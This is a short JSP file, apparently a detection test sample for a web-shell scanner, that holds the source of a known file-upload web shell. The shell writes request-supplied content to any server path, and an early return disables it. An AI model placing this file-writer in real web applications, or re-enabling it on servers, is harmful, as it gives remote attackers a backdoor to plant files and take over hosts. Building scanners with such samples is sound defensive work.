<%@page import="java.io.*"%>
<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<html><head><title>JspDo Code By Someone</title></head><body>
<%
if (request.getParameter("context") != null) {
  String context = new String(request.getParameter("context").getBytes("ISO-8859-1"), "gb2312");
  String path = new String(request.getParameter("path").getBytes("ISO-8859-1"), "gb2312");
  OutputStream pt = new FileOutputStream(path);
  pt.write(context.getBytes()); pt.close();
}
%>
<input name="path" value="<%=application.getRealPath("/")%>">
</body></html>
